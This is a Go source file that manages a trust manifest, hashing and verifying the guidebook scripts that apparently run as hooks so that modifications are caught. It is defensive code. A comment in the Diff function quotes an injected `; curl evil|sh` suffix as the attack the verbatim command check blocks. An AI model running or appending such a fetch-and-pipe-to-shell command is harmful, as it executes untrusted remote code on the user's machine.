package trust

import (
	"fmt"
	"os"
	"path/filepath"

	"github.com/eqtylab/cupcake-go/internal/rulebook"
)

// scripts flattens a guidebook into (category, name, command) triples,
// matching the manifest's category/name addressing. Multiple actions
// registered under the same rule ID are disambiguated with a numeric
// suffix, mirroring how multiple signals never collide (signal names
// are already unique keys).
func scripts(gb rulebook.Guidebook) []struct{ category, name, command string } {
	var out []struct{ category, name, command string }

	for name, sig := range gb.Signals {
		out = append(out, struct{ category, name, command string }{"signals", name, sig.Command})
	}

	for idx, action := range gb.Actions.OnAnyDenial {
		name := "on_any_denial"
		if len(gb.Actions.OnAnyDenial) > 1 {
			name = fmt.Sprintf("on_any_denial_%d", idx)
		}
		out = append(out, struct{ category, name, command string }{"actions", name, action.Command})
	}

	for ruleID, actions := range gb.Actions.ByRuleID {
		for idx, action := range actions {
			name := ruleID
			if len(actions) > 1 {
				name = fmt.Sprintf("%s_%d", ruleID, idx)
			}
			out = append(out, struct{ category, name, command string }{"actions", name, action.Command})
		}
	}

	return out
}

// loadGuidebookWithConventions loads guidebook.yml from cupcakeDir and
// merges in convention-discovered signals/actions, exactly as the
// engine does when routing real events — trust init/update must bind
// against the same script set the engine will actually execute.
func loadGuidebookWithConventions(cupcakeDir string) (rulebook.Guidebook, error) {
	gb, err := rulebook.Load(filepath.Join(cupcakeDir, "guidebook.yml"))
	if err != nil {
		return rulebook.Guidebook{}, err
	}
	gb, err = rulebook.DiscoverSignals(filepath.Join(cupcakeDir, "signals"), gb)
	if err != nil {
		return rulebook.Guidebook{}, err
	}
	return rulebook.DiscoverActions(filepath.Join(cupcakeDir, "actions"), gb)
}

// Init builds a fresh manifest for projectDir's guidebook and saves it
// to <projectDir>/.cupcake/.trust. If empty is true, an empty manifest
// is saved without scanning for scripts. Returns the number of scripts
// bound.
func Init(projectDir string, empty bool) (int, error) {
	cupcakeDir := filepath.Join(projectDir, ".cupcake")
	trustFile := filepath.Join(cupcakeDir, ".trust")

	manifest := New()
	count := 0

	if !empty {
		gb, err := loadGuidebookWithConventions(cupcakeDir)
		if err != nil {
			return 0, fmt.Errorf("loading guidebook: %w", err)
		}
		for _, s := range scripts(gb) {
			entry, err := ScriptEntryFromCommand(s.command, projectDir)
			if err != nil {
				continue
			}
			manifest.AddScript(s.category, s.name, entry)
			count++
		}
	}

	if err := manifest.Save(trustFile); err != nil {
		return 0, err
	}
	return count, nil
}

// ChangeSet describes the difference detected between a manifest and
// the project's current script state.
type ChangeSet struct {
	Added    []string // "category/name"
	Modified []string
	Removed  []string
}

func (c ChangeSet) IsEmpty() bool {
	return len(c.Added) == 0 && len(c.Modified) == 0 && len(c.Removed) == 0
}

// Diff computes the ChangeSet between manifest and the project's
// current guidebook-derived script set.
func Diff(manifest *Manifest, projectDir string) (ChangeSet, map[string]map[string]ScriptEntry, error) {
	cupcakeDir := filepath.Join(projectDir, ".cupcake")
	gb, err := loadGuidebookWithConventions(cupcakeDir)
	if err != nil {
		return ChangeSet{}, nil, fmt.Errorf("loading guidebook: %w", err)
	}

	current := make(map[string]map[string]ScriptEntry)
	for _, s := range scripts(gb) {
		entry, err := ScriptEntryFromCommand(s.command, projectDir)
		if err != nil {
			continue
		}
		if current[s.category] == nil {
			current[s.category] = make(map[string]ScriptEntry)
		}
		current[s.category][s.name] = entry
	}

	var cs ChangeSet
	for category, categoryScripts := range current {
		for name, entry := range categoryScripts {
			existing, ok := manifest.GetScript(category, name)
			switch {
			case !ok:
				cs.Added = append(cs.Added, category+"/"+name)
			case existing.Hash != entry.Hash || existing.Command != entry.Command:
				// Command must also match verbatim: two commands can
				// resolve to the same script file (and therefore the
				// same hash) while differing in surrounding shell
				// syntax, e.g. appended `; curl evil|sh`. Hash-only
				// comparison would let that slip past as "no changes
				// detected", rubber-stamped by the next trust update.
				cs.Modified = append(cs.Modified, category+"/"+name)
			}
		}
	}

	for _, category := range manifest.Categories() {
		for _, name := range manifest.ScriptsIn(category) {
			if _, ok := current[category][name]; !ok {
				cs.Removed = append(cs.Removed, category+"/"+name)
			}
		}
	}

	return cs, current, nil
}

// Update rebuilds and saves the manifest from the project's current
// script state, replacing what is stored at
// <projectDir>/.cupcake/.trust entirely. Callers are expected to have
// already reviewed the ChangeSet from Diff before calling this.
func Update(projectDir string, current map[string]map[string]ScriptEntry) error {
	manifest := New()
	for category, categoryScripts := range current {
		for name, entry := range categoryScripts {
			manifest.AddScript(category, name, entry)
		}
	}
	return manifest.Save(filepath.Join(projectDir, ".cupcake", ".trust"))
}

// VerifyResult reports a single script's verification outcome.
type VerifyResult struct {
	Category string
	Name     string
	Command  string
	Status   VerifyStatus
}

type VerifyStatus string

const (
	VerifyPassed   VerifyStatus = "passed"
	VerifyModified VerifyStatus = "modified"
	VerifyMissing  VerifyStatus = "missing"
)

// Verify checks every script bound in the manifest against its current
// on-disk content, returning one VerifyResult per script in manifest
// order.
func Verify(manifest *Manifest, projectDir string) []VerifyResult {
	var results []VerifyResult
	for _, category := range manifest.Categories() {
		for _, name := range manifest.ScriptsIn(category) {
			entry, _ := manifest.GetScript(category, name)
			ref := ParseScriptReference(entry.Command, projectDir)
			currentHash, err := ref.ComputeHash(entry.Command)

			status := VerifyPassed
			switch {
			case err != nil:
				status = VerifyMissing
			case currentHash != entry.Hash:
				status = VerifyModified
			}
			results = append(results, VerifyResult{Category: category, Name: name, Command: entry.Command, Status: status})
		}
	}
	return results
}

// Reset deletes the trust manifest file, returning to the
// uninitialized state.
func Reset(projectDir string) error {
	trustFile := filepath.Join(projectDir, ".cupcake", ".trust")
	if err := os.Remove(trustFile); err != nil && !os.IsNotExist(err) {
		return fmt.Errorf("removing trust manifest: %w", err)
	}
	return nil
}

// LoadOrNil loads the trust manifest for a project, returning (nil,
// nil) if trust has not been initialized rather than an error.
func LoadOrNil(projectDir string) (*Manifest, error) {
	trustFile := filepath.Join(projectDir, ".cupcake", ".trust")
	if _, err := os.Stat(trustFile); os.IsNotExist(err) {
		return nil, nil
	}
	return LoadManifest(trustFile)
}
